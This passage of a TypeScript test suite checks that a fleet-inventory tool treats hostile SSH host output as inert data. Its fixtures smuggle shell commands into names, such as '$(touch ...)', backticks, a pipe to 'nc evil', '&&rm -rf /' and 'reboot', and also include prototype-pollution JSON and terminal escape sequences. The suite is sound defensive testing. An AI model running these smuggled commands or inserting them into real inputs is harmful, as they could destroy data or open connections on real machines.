        retries: 0,
      };
      const results = [
        await hostileCall(w.h, "update_discovery_config", { upsert_sources: [src], dry_run: true }),
        await hostileCall(w.h, "update_discovery_config", { upsert_sources: [src] }),
        await hostileCall(w.h, "run_discovery", { sources: ["pathy"] }),
        await hostileCall(w.h, "get_discovery_status", {}),
        await hostileCall(w.h, "get_discovery_config", {}),
        await hostileCall(w.h, "doctor", { sources: ["pathy"] }),
        await hostileCall(w.h, "query_audit_log", { limit: 200 }),
      ];
      const everything = JSON.stringify(results) + JSON.stringify(w.h.app.db.$client.prepare("SELECT * FROM audit_log").all()) + w.h.logs.join("\n");
      expect(everything).not.toContain("TOPSECRET");
    } finally {
      await w.close();
    }
  });
});

async function closedPort(): Promise<number> {
  const { createServer } = await import("node:net");
  const srv = createServer();
  await new Promise<void>((r) => srv.listen(0, "127.0.0.1", r));
  const p = (srv.address() as { port: number }).port;
  await new Promise<void>((r) => srv.close(() => r()));
  return p;
}

// ---------------------------------------------------------------- 4. hostile remote output

const PW_ENV = "FLEET_TEST_HOSTILE_PW";
const PW = `pw-${MARK}`;
/** Names a hostile machine reports: shell syntax, newlines, escapes, NUL. */
const EVIL = [
  `${MARK}-semi;reboot`,
  `${MARK}-sub$(touch /tmp/${MARK}-sub)`,
  `${MARK}-bt\`touch /tmp/${MARK}-bt\``,
  `${MARK}-pipe|nc evil 1`,
  `${MARK}-nl\nsecond line`,
  `${MARK}-cr\rover`,
  `${MARK}-ansi\u001b[2J\u001b]0;pwned\u0007`,
  `${MARK}-nul\u0000end`,
  `${MARK}-amp&&rm -rf /`,
  `${MARK}-quote'"\\`,
];
const POLLUTE = '"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"}';
const j = (v: unknown) => JSON.stringify(v);
const hex64 = (i: number) => createHash("sha256").update(`${MARK}-${i}`).digest("hex");

/** A Debian host (the captures) whose every JSON section carries prototype keys and whose names are hostile. */
function evilHost(hostname: string, hostKeyLine: string): CannedHost {
  const big = `{"unit":"${MARK}-big.service","load":"loaded","active":"active","sub":"running","description":"${"D".repeat(MB)}"}`;
  const units = EVIL.map(
    (n, i) =>
      `{"unit":${j(`${n}.service`)},"load":"loaded","active":"${i % 2 ? "failed" : "active"}","sub":"running","description":${j(`desc ${n}`)},${POLLUTE}}`,
  );
  const ps = EVIL.map(
    (n, i) =>
      `{"ID":"${hex64(i)}","Names":${j(n)},"Image":${j(`img:${n}`)},"State":"running","Status":"Up 2 hours","Ports":"","Labels":${j(`com.docker.compose.project=${n},__proto__=x,constructor=y`)},"CreatedAt":"2026-11-01 10:00:00 +0000 UTC",${POLLUTE}}`,
  );
  const inspect = EVIL.map(
    (n, i) =>
      `{"id":"${hex64(i)}","name":${j(`/${n}`)},"image":"sha256:${hex64(100 + i)}","restarts":0,"exit":0,"health":null,"privileged":false,"network":${j(n)},${POLLUTE}}`,
  );
  const compose = `[${EVIL.map((n) => `{"Name":${j(n)},"Status":"running(1)","ConfigFiles":${j(`/srv/${n}/compose.yml`)},${POLLUTE}}`).join(",")}]`;
  const ip = `[{"ifindex":1,"ifname":"lo","flags":["LOOPBACK","UP"],"mtu":65536,"operstate":"UNKNOWN","link_type":"loopback","addr_info":[{"family":"inet","local":"127.0.0.1","prefixlen":8,"scope":"host"}]},{"ifindex":2,"ifname":${j(EVIL[0])},"flags":["UP"],"mtu":1500,"operstate":"UP","address":"aa:bb:cc:dd:ee:ff",${POLLUTE},"addr_info":[{"family":"inet","local":"10.9.9.9","prefixlen":24,"scope":"global",${POLLUTE}}]}]`;
  return debianHost({
    hostname: { body: hostname },
    machine_id: { body: machineIdFor(hostname.slice(0, 200)) },
    host_keys: { body: hostKeyLine },
    os: { body: `PRETTY_NAME="Evil \u001b[31mOS\u001b[0m $(id)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n` },
    addresses: { body: ip },
    ports: { body: `#ss\nLISTEN 0      128      0.0.0.0:2222 0.0.0.0:* users:(("${MARK}$(id);x",pid=7861,fd=4))` },
    systemd: { body: `#json\n[${[...units, big].join(",")}]\n#@unit-files json 0\n${debianUnitFiles()}` },
    docker: { body: `${ps.join("\n")}\n#@inspect 0\n${inspect.join("\n")}` },
    compose: { body: compose },
  });
}

/** Every string in a JSON value. */
function strings(v: unknown, out: string[] = []): string[] {
  if (typeof v === "string") out.push(v);
  else if (Array.isArray(v)) for (const x of v) strings(x, out);
  else if (v && typeof v === "object") for (const [k, x] of Object.entries(v)) (out.push(k), strings(x, out));
  return out;
}
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** A hostile call that must succeed: its structuredContent. */
async function okCall(h: Harness, name: string, args: Record<string, unknown> = {}): Promise<Json> {
  const res = await hostileCall(h, name, args);
  expect(res.isError, `${name}: ${text(res)}`).toBeFalsy();
  return res.structuredContent;
}

describe("hostile remote output through the real probe parsers", () => {
  const sims: SimHost[] = [];
  const execs: string[] = [];
  let dir: string;
  let dbFile: string;
  let h: Harness | undefined;
  let evilName: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "fleet-hostile-remote-"));
    dbFile = join(dir, "fleet.db");
    const sim = async (hostname: (publicKey: string) => string) => {
      let s: SimHost | undefined;
      s = await startSimHost({ users: { root: { password: PW } }, onExec: (c) => execs.push(c) });
      s.setHost(evilHost(hostname(s.publicKey), `${s.publicKey} root@evil`));
      sims.push(s);
      return s;
    };
    evilName = `evil-${MARK};$(touch /tmp/${MARK}-host)\u001b[31m\`id\`|x`;
    await sim(() => evilName);
    await sim(() => `huge-${MARK}-${"h".repeat(MB)}`);
    h = await startHarness({
      configJson: {
        sources: [
          {
            kind: "ssh",
            id: "lab",
            hosts: sims.map((s, i) => ({ address: s.address, port: s.port, name: `cfg-${i + 1}` })),
            auth: { agent: false, password_env: PW_ENV },
            timeout_ms: 10_000,
            retries: 0,
            retry_min_delay_ms: 0,
          },
        ],
      },
      env: { [PW_ENV]: PW },
      db: openDb(dbFile),
    });
    const run = await hostileCall(h, "run_discovery", {});
    expect(run.isError, text(run)).toBeFalsy();
    expect(run.structuredContent).toMatchObject({ targets_seen: 2 });
  }, 60_000);

  afterAll(async () => {
    await h?.close();
    await Promise.all(sims.map((s) => s.close()));
    rmSync(dir, { recursive: true, force: true });
  });

  it("runs exactly one exec per probe, the probe itself, with nothing of the output in it; no prototype is polluted", () => {
    expect(sims.map((s) => s.execs)).toEqual([1, 1]);
    expect(execs).toHaveLength(2);
    for (const c of execs) {
      expect(c).toMatch(/(^|\s)sh -s$/);
      expect(c).not.toContain(MARK);
    }
    assertNoPollution();
    for (const suffix of ["sub", "bt", "host"]) expect(existsSync(join("/tmp", `${MARK}-${suffix}`))).toBe(false);
  });

  it("stores and shows the hostile names as data (control characters as U+FFFD), in get_target, list_services and search_fleet", async () => {
    const list = await okCall(h!, "list_targets", { text: MARK });
    const evil = list.items.find((t: Json) => t.name === neutraliseText(evilName));
    expect(evil, JSON.stringify(list.items.map((t: Json) => t.name.slice(0, 80)))).toBeDefined();
    const t = await okCall(h!, "get_target", { target: evil.id, limit: 200 });
    const services = await okCall(h!, "list_services", { target: evil.id, limit: 200 });
    const found = await okCall(h!, "search_fleet", { query: MARK, limit: 200 });
    for (const [what, out] of [
      ["get_target", t],
      ["list_services", services],
      ["search_fleet", found],
    ] as const) {
      const all = strings(out);
      for (const s of all) expect(s, `${what}: a raw control character`).not.toMatch(RAW_CONTROL);
      for (const n of EVIL) {
        const shown = neutraliseText(n);
        expect(
          all.some((s) => s.includes(shown)),
          `${what} does not show ${JSON.stringify(shown)}`,
        ).toBe(true);
      }
    }
    // Each kind of entity carries the names: units, containers, stacks, the interface, the port's process.
    const json = JSON.stringify(t);
    expect(json).toContain(j(neutraliseText(`${EVIL[1]}.service`)).slice(1, -1));
    expect(json).toContain(j(`${MARK}$(id);x`).slice(1, -1));
    expect(t.target.os).toBe(neutraliseText("Evil \u001b[31mOS\u001b[0m $(id)"));
    // Prototype keys in the JSON were dropped or kept as plain data, never applied.
    assertNoPollution();
    const types = new Set(found.matches.map((m: Json) => m.type));
    expect([...types].sort()).toEqual(expect.arrayContaining(["container", "service", "stack"]));
  });

  it("a 1 MB hostname does not take a listing down: it is refused as a name, clearly, and the host is still inventoried", async () => {
    const all = await okCall(h!, "list_targets", { limit: 200 });
    expect(all.items).toHaveLength(2);
    const huge = all.items.find((t: Json) => t.name !== neutraliseText(evilName));
    expect(huge.name).toBe("cfg-2"); // the configured name
    const t = await hostileCall(h!, "get_target", { target: huge.id });
    expect(t.isError, text(t)).toBeFalsy();
    expect(t.structuredContent.last_probe.sections.hostname).toMatchObject({ status: "failed" });
    expect(t.structuredContent.last_probe.sections.hostname.detail).toMatch(/hostname/);
    for (const tool of ["get_fleet_overview", "run_health_check", "generate_fleet_report", "export_prometheus_targets", "list_services"]) {
      const res = await hostileCall(h!, tool, tool === "generate_fleet_report" ? { kind: "summary" } : {});
      expect(res.isError, `${tool}: ${text(res)}`).toBeFalsy();
    }
  });

  it("a 1 MB unit description is cut with a marker, so every page of a listing still fits the result cap", async () => {
    const seen: Json[] = [];
    let cursor: string | undefined;
    for (let page = 0; page < 20; page++) {
      const out = await okCall(h!, "list_services", { limit: 25, ...(cursor ? { cursor } : {}) });
      seen.push(...out.services);
      cursor = out.next_cursor ?? undefined;
      if (!cursor) break;
    }
    expect(cursor).toBeUndefined();
    const big = seen.filter((s) => s.name === `${MARK}-big.service`);
    expect(big).toHaveLength(2);
    for (const s of big) {
      expect(s.description).toBe(`${"D".repeat(MAX_REMOTE_TEXT)}…[cut: ${MB - MAX_REMOTE_TEXT} more characters]`);
    }
    const one = await okCall(h!, "search_fleet", { query: `${MARK}-big`, limit: 200 });
    expect(one.matches.length).toBeGreaterThanOrEqual(2);
  });

  it("the CLI prints the hostile names without a raw control character", async () => {
    ensureBuilt();
    const id = ((await okCall(h!, "list_targets", { text: MARK })).items as Json[]).find((t) => t.name === neutraliseText(evilName)).id as string;
    await h!.close();
    h = undefined;
    for (const args of [["targets", "--all"], ["target", id, "--limit", "200"], ["search", MARK, "--limit", "200"], ["overview"]]) {
      const r = await runCli([...args, "--db", dbFile], { cwd: dir, home: join(dir, "cli-home") });
      expect(r.code, show(r)).toBe(0);
      expect(r.stdout + r.stderr, `a control character${show(r).slice(0, 4000)}`).not.toMatch(TERMINAL_CONTROL);
      expect(r.stdout).toContain(MARK);
      // A newline or CR in a name would start a forged line of the table.
      expect(r.stdout, show(r).slice(0, 4000)).not.toMatch(/^(second line|over)/m);
    }
    expect(existsSync(CLI)).toBe(true);
  }, 120_000);
});
